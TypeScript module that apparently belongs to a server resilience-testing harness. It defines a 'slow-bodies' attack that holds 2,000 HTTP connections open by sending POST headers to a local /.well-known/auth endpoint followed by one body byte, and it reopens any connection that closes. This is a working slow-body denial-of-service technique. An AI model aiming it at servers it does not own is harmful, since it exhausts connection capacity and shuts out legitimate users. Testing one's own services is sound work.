import { type Source, sourceHeaders } from '../wire/endpoint.ts';
import type { HttpWire } from '../wire/http-wire.ts';
import { ANONYMOUS, type Attack } from './attack.ts';

const CONNECTIONS = 2_000;
const AT_ONCE = 50;

/** Row 2: places for requests under way, all held by one. */
export const slowBodies: Attack = {
  name: 'slow-bodies',
  does: '2,000 connections, each with headers and one byte of a body',
  shapes: ANONYMOUS,
  async run(context) {
    const wires: (HttpWire | undefined)[] = await context.together(CONNECTIONS, AT_ONCE, (i) => context.openHttp(i));
    await context.begin();
    wires.forEach((wire, i) => {
      wire?.write(beginning(context.source(i)));
    });
    await context.repeat(AT_ONCE, async (worker, turn) => {
      const index = worker + AT_ONCE * (turn % (CONNECTIONS / AT_ONCE));
      if (wires[index]?.isOpen) {
        await context.pause(50);
        return;
      }
      const wire = await context.openHttp(index);
      wires[index] = wire;
      wire.write(beginning(context.source(index)));
    });
  },
};

function beginning(source: Source): string {
  return (
    'POST /.well-known/auth HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n' +
    `${sourceHeaders(source)}Content-Length: 300\r\n\r\n{`
  );
}
